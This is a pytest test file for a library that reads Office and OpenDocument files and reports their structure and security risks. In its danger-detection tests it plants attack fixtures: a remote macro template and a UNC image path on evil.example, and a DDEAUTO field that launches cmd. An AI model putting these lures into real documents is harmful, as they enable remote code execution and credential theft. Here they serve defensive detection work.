"""Office files of the real libraries and of LibreOffice, read for their text, structure and dangers."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from document_office import REPORT, libreoffice, make_docx, make_pptx, make_xlsx, rewritten

from pitchey_core.errors import InputError
from pitchey_document.markdown import to_markdown, to_text
from pitchey_document.office.encryption import decrypt
from pitchey_document.office.reading import read_office
from pitchey_document.structure import Block, Section, Structure

MAKERS: dict[str, Callable[[Path], Path]] = {"docx": make_docx, "pptx": make_pptx, "xlsx": make_xlsx}
ODF = {"odt": "docx", "odp": "pptx", "ods": "xlsx"}


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Path]:
    folder = tmp_path_factory.mktemp("office")
    files: dict[str, Path] = {}

    def get(kind: str) -> Path:
        if kind not in files:
            if kind in ODF:
                files[kind] = libreoffice(get(ODF[kind]), kind)
            else:
                files[kind] = MAKERS[kind](folder / f"sample.{kind}")
        return files[kind]

    return get


def read(path: Path, kind: str, **limits: Any) -> tuple[Structure, dict[str, Any]]:
    answer = read_office(str(path), kind, limits or None)
    return Structure.from_record(answer["structure"]), answer


def found(structure: Structure, kind: str, role: str = "") -> list[Block]:
    return [each for each in structure.blocks() if each.kind == kind and each.role == role]


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_text_document(made: Callable[[str], Path], kind: str) -> None:
    structure, answer = read(made(kind), kind)
    (body,) = structure.sections
    assert body.kind == "body"
    assert [(each.text, each.level) for each in found(structure, "heading")][1:] == [
        ("Results", 1),
        ("Outlook", 2),
    ]
    assert [(each.text, each.level, each.ordered) for each in found(structure, "item")] == [
        ("apples", 0, False),
        ("green apples", 1 if kind == "docx" else 0, False),
        ("first", 0, True),
        ("second", 0, True),
    ]
    assert "Sales rose by 12 % in spring.\tSee the figures" in [
        each.text for each in found(structure, "paragraph")
    ]
    (table,) = found(structure, "table")
    assert table.rows[0] == ["Region", "Q1", "Q2"]
    assert table.rows[1] == ["North", "1|2\n3", ""]
    assert table.rows[2][0].split() == ["South", "inner"]
    assert [each.text for each in found(structure, "paragraph", "header")] == ["Confidential"]
    assert [each.text for each in found(structure, "paragraph", "footer")] == ["Page of the report"]
    assert [each.text for each in found(structure, "paragraph", "comment")] == ["who says so?"]
    assert [each.text for each in found(structure, "picture")] == ["a grey square"]
    assert structure.metadata["title"] == REPORT
    assert structure.metadata["author"] == "Ada"
    assert answer["security"]["external_links"] == ["https://example.org/figures"]
    assert answer["warnings"] == []


@pytest.mark.parametrize("kind", ["pptx", "odp"])
def test_deck(made: Callable[[str], Path], kind: str) -> None:
    structure, answer = read(made(kind), kind)
    assert [each.title for each in structure.sections] == ["The plan", "Numbers", "Backup"]
    assert [each.hidden for each in structure.sections] == [False, False, True]
    first, second, _ = structure.sections
    assert [(each.text, each.level) for each in first.blocks if each.kind == "item"] == [
        ("gather", 0),
        ("carefully", 1),
    ]
    assert first.notes == "Smile here."
    assert [["Year", "Films"], ["2024", "7"]] in [each.rows for each in second.blocks]
    assert "grouped words" in [each.text for each in second.blocks]
    assert "a grey square" in [each.text for each in second.blocks if each.kind == "picture"]
    if kind == "pptx":
        assert [["Category", "Seats"], ["East", "4"], ["West", "8.5"]] in [
            each.rows for each in second.blocks
        ]
    assert answer["pages"] == 3


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_workbook(made: Callable[[str], Path], kind: str) -> None:
    structure, answer = read(made(kind), kind)
    budget = structure.sections[0]
    assert (budget.kind, budget.title, budget.cells, budget.hidden) == ("sheet", "Budget", "B2:E6", False)
    assert budget.blocks[0].rows == [
        ["Item", "Cost", "Paid", "Due"],
        ["Lights | rent", "0.3", "TRUE", "2024-05-01"],
        ["Crew", "1200", "FALSE", "2024-05-02 13:30:00"],
        ["", "", "", ""],
        ["Total", "", "", ""],
    ]
    assert answer["security"]["hidden_sheets"] == ["Drafts", "Secrets"]


@pytest.mark.parametrize("kind", ["docx", "pptx", "xlsx", "odt", "odp", "ods"])
def test_markdown_and_text_hold_every_word(made: Callable[[str], Path], kind: str) -> None:
    structure, _ = read(made(kind), kind)
    markdown, text = to_markdown(structure), to_text(structure)
    for block in structure.blocks():
        for words in (block.text, *(cell for row in block.rows for cell in row)):
            for word in words.split():
                assert word in text
                assert word in markdown.replace("\\", "")
    assert to_markdown(Structure.from_record(structure.as_record())) == markdown


def test_markdown_is_not_misread() -> None:
    section = Section("body", 1)
    section.blocks = [
        Block("heading", "A # b", level=2),
        Block("paragraph", "# no heading\n- no item\n1. no number\n*no* _emphasis_ <b>, snake_case stays"),
        Block("item", "one"),
        Block("item", "deeper", level=1),
        Block("item", "numbered", level=1, ordered=True),
        Block("item", "two"),
        Block("table", rows=[["a|b", "c"], ["line\nbreak"]]),
    ]
    slide = Section("slide", 2, title="Plan", notes="say\nhello", hidden=True)
    assert to_markdown(Structure([section, slide])) == (
        "## A # b\n\n"
        "\\# no heading  \n\\- no item  \n1\\. no number  \n\\*no\\* \\_emphasis\\_ \\<b\\>, snake_case stays\n\n"
        "- one\n  - deeper\n  1. numbered\n- two\n\n"
        "| a\\|b | c |\n| --- | --- |\n| line<br>break |\n\n"
        "## Slide 2 (hidden): Plan\n\n"
        "> Notes: say  \n> hello\n"
    )
    assert to_text(Structure([section])).splitlines()[:4] == ["A # b", "", "# no heading", "- no item"]


def test_tracked_changes_and_text_boxes(made: Callable[[str], Path], tmp_path: Path) -> None:
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = (
        f'<w:p {word}><w:ins w:id="1" w:author="A"><w:r><w:t>kept</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="A"><w:r><w:delText>gone</w:delText></w:r></w:del>'
        "<w:r><w:pict><w:txbxContent><w:p><w:r><w:t>boxed</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"
    )
    path = rewritten(
        made("docx"),
        tmp_path / "tracked.docx",
        {"word/document.xml": lambda old: old.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)},
    )
    structure, _ = read(path, "docx")
    assert [each.text for each in structure.sections[0].blocks[1:3]] == ["kept", "boxed"]
    assert "gone" not in to_text(structure)


@pytest.mark.parametrize(
    ("kind", "part", "plain", "other"),
    [
        (
            "docx",
            "word",
            "wordprocessingml.document",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        ("docx", "word", "wordprocessingml.document", "{}wordprocessingml.template.main+xml"),
        (
            "pptx",
            "ppt",
            "presentationml.presentation",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
        ("pptx", "ppt", "presentationml.presentation", "{}presentationml.template.main+xml"),
        ("xlsx", "xl", "spreadsheetml.sheet", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ],
)
def test_macros_and_templates(
    made: Callable[[str], Path], tmp_path: Path, kind: str, part: str, plain: str, other: str
) -> None:
    office = "application/vnd.openxmlformats-officedocument."
    path = rewritten(
        made(kind),
        tmp_path / f"other.{kind}",
        {
            "[Content_Types].xml": lambda old: old.replace(
                f"{office}{plain}.main+xml".encode(), other.format(office).encode()
            ),
            f"{part}/vbaProject.bin": b"\xd0\xcf\x11\xe0 a macro project",
        },
    )
    structure, answer = read(path, kind)
    usual, _ = read(made(kind), kind)
    assert structure.as_record() == usual.as_record()
    assert answer["security"]["macros"] == [f"{part}/vbaProject.bin"]


def test_dangers_of_a_text_document(made: Callable[[str], Path], tmp_path: Path) -> None:
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = (
        f'<Relationship Id="x1" Type="{relation}/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>'
        f'<Relationship Id="x2" Type="{relation}/image" Target="\\\\evil.example\\share\\i.png" TargetMode="External"/>'
    )
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        b'<w:r><w:instrText>AUTO c:\\\\cmd "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    path = rewritten(
        made("docx"),
        tmp_path / "danger.docx",
        {
            "word/_rels/document.xml.rels": lambda old: old.replace(
                b"</Relationships>", outside.encode() + b"</Relationships>"
            ),
            "word/document.xml": lambda old: old.replace(b"<w:body>", b"<w:body>" + field, 1),
            "word/embeddings/oleObject1.bin": b"x" * 123,
            "_xmlsignatures/sig1.xml": b"<Signature/>",
        },
    )
    _, answer = read(path, "docx")
    facts = answer["security"]
    assert sorted(facts["external_templates"]) == [
        'DDE: DDEAUTO c:\\\\cmd "/k calc"',
        "attachedTemplate: http://evil.example/t.dotm",
        "image: \\\\evil.example\\share\\i.png",
    ]
    assert facts["embedded_files"] == [{"name": "oleObject1.bin", "bytes": 123}]
    assert facts["signatures"] == 1
    assert facts["macros"] == []


def test_dangers_of_an_opendocument_file(made: Callable[[str], Path], tmp_path: Path) -> None:
    """OpenOffice's own DTD, which only names a file, is no attack."""
    module = (
        '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1"/>'
    )
    path = rewritten(
        made("odt"),
        tmp_path / "danger.odt",
        {
            "Basic/Standard/Module1.xml": module.encode(),
            "content.xml": lambda old: old.replace(
                b"<office:text", b'<office:text xlink:href="http://evil.example/section.odt"', 1
            ),
        },
    )
    _, answer = read(path, "odt")
    assert answer["security"]["macros"] == ["Basic/Standard/Module1.xml"]
    assert answer["security"]["external_templates"] == ["text: http://evil.example/section.odt"]


def test_encrypted_ooxml(made: Callable[[str], Path], tmp_path: Path) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    path, plain = tmp_path / "locked.docx", tmp_path / "plain.docx"
    with made("docx").open("rb") as source, path.open("wb") as target:
        OOXMLFile(source).encrypt("sesame", target)
    with pytest.raises(InputError, match=r"protected by a password.*\n.*--password"):
        read_office(str(path), "docx")
    with pytest.raises(InputError, match="protected by a password"):
        decrypt(path, None, plain)
    with pytest.raises(InputError, match="is another one"):
        decrypt(path, "simsalabim", plain)
    assert decrypt(str(path), "sesame", str(plain)) == "AES-256 (agile)"
    assert read(plain, "docx")[0] == read(made("docx"), "docx")[0]


def test_encrypted_opendocument(made: Callable[[str], Path], tmp_path: Path) -> None:
    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    manifest = (
        f'<manifest:manifest {space}><manifest:file-entry manifest:full-path="content.xml">'
        "<manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    )
    path = rewritten(made("odt"), tmp_path / "locked.odt", {"META-INF/manifest.xml": manifest.encode()})
    with pytest.raises(InputError, match=r"with a password.*\n.*without a password"):
        read_office(str(path), "odt")


@pytest.mark.slow
def test_legacy_formats_name_the_way_out(made: Callable[[str], Path]) -> None:
    for kind, old in (("docx", "doc"), ("xlsx", "xls"), ("pptx", "ppt")):
        with pytest.raises(InputError, match=rf"97-2003.*not supported\n.*convert-to {kind}"):
            read_office(str(libreoffice(made(kind), old)), kind)


def test_limits_of_content_are_told(made: Callable[[str], Path]) -> None:
    structure, answer = read(made("docx"), "docx", characters=60)
    assert 0 < sum(len(each.text) for each in structure.blocks()) <= 60
    assert "only its first 60 characters" in answer["warnings"][0]
    structure, answer = read(made("xlsx"), "xlsx", rows=2)
    assert len(structure.sections[0].blocks[0].rows) == 2
    assert answer["warnings"] == ["sheet 'Budget' goes on: only its first 2 rows were read"]
    with pytest.raises(ValueError, match="no limits of Office files: colums"):
        read(made("xlsx"), "xlsx", colums=2)
